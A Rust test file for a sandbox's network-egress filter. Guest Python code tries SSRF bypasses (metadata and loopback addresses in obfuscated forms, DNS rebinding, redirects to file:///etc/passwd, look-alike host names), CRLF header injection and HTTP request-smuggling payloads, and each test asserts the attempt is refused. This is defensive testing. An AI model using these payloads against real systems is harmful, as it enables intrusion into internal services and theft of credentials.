//! Attempts to reach what was not granted, or to bring down whoever fetches; each named by the attack.

use std::time::{Duration, Instant};

use fumehood::{Limits, Session};
use fumehood_tools::egress::{EgressError, EgressLimits, HttpCredential, HttpRequest, Refusal};

use super::server::{AUTHORITY, Server};
use super::{Log, Script, client, get, raised, session};
use crate::printed;

/// Code of the guest that may reach the server as `good.test`, everything public, and nothing of this machine.
async fn attacker(server: &Server, script: &Script) -> (Session, Log) {
    let log = Log::default();
    let builder = client(server, &["good.test"], &["*", &format!("*:{}", server.port)], script);
    let egress = log.listening(builder).build().unwrap();
    let mut session = session(egress).await;
    session
        .run(format!("P = {}\nimport requests, httpx, urllib.request", server.port))
        .await
        .unwrap();
    (session, log)
}

/// Has every library ask for a URL, which none may have.
async fn refused(session: &mut Session, log: &Log, url: &str) {
    let before = log.lines().len();
    for ask in ["requests.get(U)", "httpx.get(U)", "urllib.request.urlopen(U)"] {
        raised(session.run(format!("U = f{url:?}\n{ask}")).await.unwrap());
    }
    let lines = log.lines();
    // Some libraries refuse it themselves.
    assert!(lines.len() > before, "{url}");
    assert!(
        lines[before..].iter().all(|line| line.starts_with("refused GET")),
        "{:?}",
        &lines[before..]
    );
}

#[tokio::test]
async fn reaching_this_machine_and_metadata_services() {
    let server = Server::start();
    let (mut session, log) = attacker(&server, &Script::default()).await;
    for url in [
        "http://127.0.0.1:{P}/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]:{P}/",
        "http://10.0.0.1/",
        "http://192.168.0.1/",
        "http://0.0.0.0:{P}/",
        "http://[::ffff:127.0.0.1]:{P}/",
        "http://[64:ff9b::7f00:1]:{P}/",
        "http://[2002:7f00:1::]:{P}/",
        "http://localhost:{P}/",
        "http://[fd00:ec2::254]/",
        "http://100.100.100.200/",
    ] {
        refused(&mut session, &log, url).await;
    }
    assert!(server.requests().is_empty());
}

#[tokio::test]
async fn writing_an_address_as_no_address_looks() {
    let server = Server::start();
    let (mut session, log) = attacker(&server, &Script::default()).await;
    for host in ["2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0x7f.1", "127.0.0.1."] {
        refused(&mut session, &log, &format!("http://{host}:{{P}}/")).await;
    }
    assert!(server.requests().is_empty());
}

#[tokio::test]
async fn being_sent_on_to_what_is_refused() {
    let server = Server::start();
    let (mut session, log) = attacker(&server, &Script::default()).await;
    let aims = [
        "http://127.0.0.1:{P}/inner",
        "http://169.254.169.254/latest",
        "http://localhost:{P}/inner",
    ];
    for aim in aims {
        for ask in
            ["requests.get(U)", "httpx.get(U, follow_redirects=True)", "urllib.request.urlopen(U)"]
        {
            let code = format!("U = f'http://good.test:{{P}}/redirect?{aim}'\n{ask}");
            raised(session.run(code).await.unwrap());
        }
    }
    let lines = log.lines();
    assert_eq!(lines.iter().filter(|line| line.starts_with("allowed")).count(), 9);
    assert_eq!(lines.iter().filter(|line| line.starts_with("refused")).count(), 9);
    assert!(server.requests().iter().all(|request| !request.contains("GET /inner")));

    // The same for tools of the host, which follow by themselves.
    let egress = client(&server, &["good.test"], &["*"], &Script::default()).build().unwrap();
    for aim in
        ["http://127.0.0.1/", "http://169.254.169.254/", "//user@evil.test/", "file:///etc/passwd"]
    {
        let asked = HttpRequest::get(format!("http://good.test:{}/redirect?{aim}", server.port));
        let refused = egress.fetch(asked).await.unwrap_err();
        assert!(matches!(refused, EgressError::Refused(_)), "{aim}: {refused}");
    }
}

#[tokio::test]
async fn a_name_that_changes_its_answer() {
    let server = Server::start();
    // Harmless when it is looked up first, and another time what the attacker wants.
    let script = Script::default().name("good.test", &[&["127.0.0.1"], &["169.254.169.254"]]);
    let (mut session, log) = attacker(&server, &script).await;
    let ask = "requests.get(f'http://good.test:{P}/').text";
    assert_eq!(crate::repr(session.run(ask).await.unwrap()), "'this is /'");
    // It was looked up once, and what was checked was connected to.
    assert_eq!(script.asked(), 1);
    let (_, message) = raised(session.run(ask).await.unwrap());
    assert!(message.contains("169.254.169.254, which is a link-local address"), "{message}");
    assert_eq!(script.asked(), 2);
    assert!(log.lines()[1].starts_with("refused GET"), "{:?}", log.lines());
    assert_eq!(server.requests().len(), 1);
}

#[tokio::test]
async fn a_name_of_somebody_elses_address() {
    let server = Server::start();
    let script = Script::default()
        .name("loopback.test", &[&["127.0.0.1"]])
        .name("inner.test", &[&["10.0.0.1"]])
        .name("mapped.test", &[&["::ffff:127.0.0.1"]])
        .name("both.test", &[&["127.0.0.1", "192.0.2.1"]])
        .name("hidden.test", &[&["1.1.1.1", "127.0.0.1"]]);
    let (mut session, log) = attacker(&server, &script).await;
    for name in ["loopback", "inner", "mapped", "both", "hidden"] {
        refused(&mut session, &log, &format!("http://{name}.test:{{P}}/")).await;
    }
    assert!(server.requests().is_empty());
}

#[tokio::test]
async fn a_private_host_that_turns_out_to_be_a_metadata_service() {
    let server = Server::start();
    let script = Script::default().name("good.test", &[&["169.254.169.254"]]);
    let egress = client(&server, &["good.test"], &[], &script).build().unwrap();
    let refused = get(&egress, &format!("http://good.test:{}/", server.port)).await.unwrap_err();
    assert!(matches!(refused, EgressError::Refused(Refusal::Address { .. })), "{refused}");
}

#[tokio::test]
async fn names_that_look_like_the_one_that_is_allowed() {
    let server = Server::start();
    let egress =
        client(&server, &["example.org", "*.sub.test"], &[], &Script::default()).build().unwrap();
    for authority in [
        "example.org@evil.test",
        "example.org:80@evil.test",
        "example.org%40evil.test",
        "evilexample.org",
        "example.org.evil.test",
        "example.org.",
        "evil.test#example.org",
        "evil.test?example.org",
        "evil.test\\@example.org",
        "evil.test\\.example.org",
        "ex\u{430}mple.org",
        "example\u{2024}org.evil.test",
        "evilsub.test",
        "sub.test",
        "a.sub.test.evil.test",
        "example.org\t.evil.test",
        "exa\u{200b}mple.org.evil",
    ] {
        let url = format!("http://{authority}:{}/", server.port);
        let refused = get(&egress, &url).await.unwrap_err();
        assert!(matches!(refused, EgressError::Refused(_)), "{authority}: {refused}");
    }
    assert!(server.requests().is_empty());
    for authority in ["EXAMPLE.org", "a.sub.test", "\u{ff45}xample.org"] {
        let url = format!("http://{authority}:{}/", server.port);
        assert!(get(&egress, &url).await.is_ok(), "{authority}");
    }
}

#[tokio::test]
async fn zones_of_addresses() {
    let server = Server::start();
    let egress = client(&server, &[], &["*"], &Script::default()).build().unwrap();
    for url in ["http://[fe80::1%25eth0]/", "http://[fe80::1%eth0]/", "http://[::1%25lo]/"] {
        let refused = get(&egress, url).await.unwrap_err();
        assert!(matches!(refused, EgressError::Refused(_)), "{url}: {refused}");
    }
}

#[tokio::test]
async fn another_host_in_the_header_than_in_the_url() {
    let server = Server::start();
    let (mut session, log) = attacker(&server, &Script::default()).await;
    let code = "requests.get(f'http://good.test:{P}/', headers={'Host': 'inner.test'})";
    let (_, message) = raised(session.run(code).await.unwrap());
    assert!(message.contains("it names another host than the URL"), "{message}");
    assert!(log.lines()[0].starts_with("refused GET"));
    assert!(server.requests().is_empty());
}

#[tokio::test]
async fn breaking_lines_in_headers_and_urls() {
    let server = Server::start();
    let (mut session, _) = attacker(&server, &Script::default()).await;
    // Past the libraries, which refuse it themselves, to the host function.
    let code = "
from fumehood import tools
import asyncio
def ask(method='GET', path='/', headers=(), body=b''):
    arguments = {'method': method, 'url': f'http://good.test:{P}{path}', 'headers': list(headers), 'body': body}
    try:
        answer = tools.call('_http', arguments, ('body',))
    except tools.ToolError as error:
        return str(error)
    return answer.get('failure') or answer['status']
print(ask(headers=[['x', 'a\\r\\nHost: evil.test']]), ask(headers=[['x\\r\\ny', 'a']]), ask(headers=[['x', 'a\\n']]))
print(ask(headers=[['x', 'a\\0']]), ask(headers=[['', 'a']]), ask(headers=[['x y', 'a']]), ask(headers=[['x', '\\u0100']]))
print(ask(path='/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'), ask(path='/\\r\\nx: y'), ask(method='GET / HTTP/1.1\\r\\nx:'))
import http.client
for write in (lambda c: c.putheader('x', 'a\\r\\nb: c'), lambda c: c.putrequest('GET', '/\\r\\nx: y')):
    try:
        connection = http.client.HTTPConnection('good.test', P)
        connection.putrequest('GET', '/') if 'putheader' in write.__code__.co_names else None
        write(connection)
    except ValueError as error:
        print('refused')
    except http.client.InvalidURL:
        print('refused')
";
    let told = printed(session.run(code).await.unwrap());
    assert_eq!(
        told,
        "request request request\nrequest request request request\nrefused refused request\nrefused\nrefused\n"
    );
    assert!(server.requests().is_empty());
}

#[tokio::test]
async fn smuggling_a_second_request() {
    let server = Server::start();
    let (mut session, _) = attacker(&server, &Script::default()).await;
    // As bytes through a socket, and past that to the host function.
    let code = "
import socket
from fumehood import tools
def send(data):
    with socket.create_connection(('good.test', P)) as connection:
        try:
            connection.sendall(data.replace(b'\\n', b'\\r\\n'))
            return connection.recv(100).split(b'\\r\\n')[0].decode()
        except OSError as error:
            return type(error).__name__
H = b'Host: good.test:%d\\n' % P
inner = b'GET /inner HTTP/1.1\\n' + H + b'\\n'
print(send(b'POST / HTTP/1.1\\n' + H + b'Content-Length: 4\\nTransfer-Encoding: chunked\\n\\n0\\n\\n' + inner))
print(send(b'POST / HTTP/1.1\\n' + H + b'Transfer-Encoding: chunked\\nTransfer-Encoding: identity\\n\\n0\\n\\n' + inner))
print(send(b'POST / HTTP/1.1\\n' + H + b'Content-Length: 4\\nContent-Length: 40\\n\\nbody' + inner))
print(send(b'POST / HTTP/1.1\\n' + H + b'Content-Length: +4\\n\\nbody'))
print(send(b'GET / HTTP/1.1\\n' + H + b'\\n' + inner))
print(send(b'POST / HTTP/1.1\\n' + H + b'Transfer-Encoding : chunked\\n\\n0\\n\\n' + inner))
def ask(*headers, body=b'0\\r\\n\\r\\n' + inner.replace(b'\\n', b'\\r\\n')):
    arguments = {'method': 'POST', 'url': f'http://good.test:{P}/', 'headers': headers, 'body': body}
    answer = tools.call('_http', arguments, ('body',))
    return answer.get('failure') or answer['status']
print(ask(('transfer-encoding', 'chunked')), ask(('content-length', '5')), ask(('Upgrade', 'h2c')))
print(ask(('content-length', '5'), ('content-length', '6')), ask(('TE', 'trailers')), ask(('connection', 'x')))
";
    let told = printed(session.run(code).await.unwrap());
    let expected =
        format!("{}refused refused refused\nrefused refused 200\n", "Malformed\n".repeat(6));
    assert_eq!(told, expected);
    // The last one has arrived, as one request whose body is all of it.
    let [request] = &server.requests()[..] else { panic!("{:?}", server.requests()) };
    assert!(
        request.starts_with("POST / HTTP/1.1\r\n") && request.contains("content-length: "),
        "{request}"
    );
}

#[tokio::test]
async fn anything_but_http_through_a_socket() {
    let server = Server::start();
    let (mut session, log) = attacker(&server, &Script::default()).await;
    let code = "
import socket, ftplib, smtplib
def told(do):
    try:
        do()
        return 'done'
    except Exception as error:
        return type(error).__name__
def send(data):
    with socket.create_connection(('good.test', P)) as connection:
        connection.sendall(data)
print(told(lambda: send(b'HELO x\\r\\nMAIL FROM: a\\r\\n\\r\\n')), told(lambda: send(b'\\x16\\x03\\x01\\r\\n\\r\\n')))
print(told(lambda: send(b'CONNECT evil.test:80 HTTP/1.1\\r\\n\\r\\n')))
print(told(lambda: send(b'GET http://evil.test/ HTTP/1.1\\r\\n\\r\\n')))
print(told(lambda: send(b'x' * 300_000)))
print(told(lambda: ftplib.FTP('good.test', timeout=1)), told(lambda: smtplib.SMTP('good.test', P, timeout=1)))
print(told(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)), told(lambda: socket.socket(fileno=3)))
print(told(lambda: socket.socket().bind(('127.0.0.1', 80))), told(lambda: socket.create_server(('', 0)).accept()))
print(told(lambda: socket.gethostbyname('secret.evil.test')), told(lambda: socket.socket().recv(1)))
";
    let told = printed(session.run(code).await.unwrap());
    assert!(!told.contains("done"), "{told}");
    assert!(server.requests().is_empty() && log.lines().is_empty(), "{:?}", log.lines());
}

#[tokio::test]
async fn headers_beyond_all_bounds() {
    let server = Server::start();
    let (mut session, _) = attacker(&server, &Script::default()).await;
    for code in [
        "requests.get(f'http://good.test:{P}/', headers={'x': 'y' * 40_000})",
        "requests.get(f'http://good.test:{P}/', headers={f'x{i}': 'y' for i in range(1000)})",
        "requests.get(f'http://good.test:{P}/' + 'x' * 10_000)",
    ] {
        raised(session.run(code).await.unwrap());
    }
    assert!(server.requests().is_empty());
    // And from the server.
    for path in ["/headers?99", "/headers?1000", "/headers?100000"] {
        let code = format!("requests.get(f'http://good.test:{{P}}{path}')");
        raised(session.run(code).await.unwrap());
    }
}

#[tokio::test]
async fn a_server_that_never_comes_to_an_end() {
    let server = Server::start();
    let limits = EgressLimits::default().with_time(Duration::from_millis(400));
    let egress =
        client(&server, &["good.test"], &[], &Script::default()).limits(limits).build().unwrap();
    for path in ["/drip", "/drip-headers"] {
        let began = Instant::now();
        let late =
            get(&egress, &format!("http://good.test:{}{path}", server.port)).await.unwrap_err();
        assert!(matches!(late, EgressError::TimedOut { .. }), "{path}: {late}");
        assert!(began.elapsed() < Duration::from_secs(20));
    }
    // Without a limit of the client's, the step has one.
    let egress = client(&server, &["good.test"], &[], &Script::default()).build().unwrap();
    let mut session = session(egress).await;
    let code = format!("import requests\nrequests.get('http://good.test:{}/drip')", server.port);
    let limits = Limits::default().with_time(Duration::from_secs(2));
    let step = session.run(fumehood::Code::new(code).limits(limits)).await.unwrap();
    assert!(matches!(step.outcome, fumehood::Outcome::LimitReached(..)), "{:?}", step.outcome);
}

#[tokio::test]
async fn an_answer_that_grows_when_it_is_unpacked() {
    let server = Server::start();
    let limits = EgressLimits::default().with_unpacked_bytes(7);
    let egress =
        client(&server, &["good.test"], &[], &Script::default()).limits(limits).build().unwrap();
    let asked = HttpRequest::get(format!("http://good.test:{}/packed", server.port));
    let refused = egress.fetch(asked).await.unwrap_err();
    assert!(matches!(refused, EgressError::TooLarge { .. }), "{refused}");
}

#[tokio::test]
async fn an_answer_with_two_lengths() {
    let server = Server::start();
    let egress = client(&server, &["good.test"], &[], &Script::default()).build().unwrap();
    let answer = get(&egress, &format!("http://good.test:{}/lengths", server.port)).await;
    assert!(matches!(answer, Err(EgressError::Broken { .. })), "{answer:?}");
}

#[tokio::test]
async fn getting_at_a_credential_of_the_host() {
    let server = Server::secure();
    let script = Script::default();
    let place = format!("good.test:{}", server.port);
    // The certificate is for another name, so this one goes by plain names that it has.
    let place = place.replace("good", "secure");
    let credential =
        HttpCredential::new(&place, "authorization", "Bearer ", "s3cret-token").unwrap();
    let builder =
        client(&server, &["secure.test", "other.test"], &[], &script).authorities(AUTHORITY);
    let mut session = session(builder.credential(credential).build().unwrap()).await;
    let code = format!(
        "
import requests, httpx
P = {}
seen = []
def look(text): seen.append('s3cret' in text)
# What the server repeats, in headers and bodies, packed or not, straight or after a redirect elsewhere.
for path in ('/reflect', '/echo', '/redirect?https://other.test:%d/echo' % P):
    for headers in ({{}}, {{'Accept-Encoding': 'gzip'}}, {{'Authorization': 'Bearer mine'}}):
        answer = requests.get(f'https://secure.test:{{P}}{{path}}', headers=headers)
        look(answer.text + str(answer.headers) + str(answer.request.headers) + str(answer.history))
print(seen)
",
        server.port
    );
    assert_eq!(
        printed(session.run(code).await.unwrap()),
        format!("{:?}\n", [false; 9]).replace("false", "False")
    );
    let requests = server.requests();
    let (with, without): (Vec<_>, Vec<_>) =
        requests.iter().partition(|request| request.contains("s3cret-token"));
    assert_eq!((with.len(), without.len()), (9, 3));
    assert!(without.iter().all(|request| request.contains("host: other.test")), "{without:?}");
}
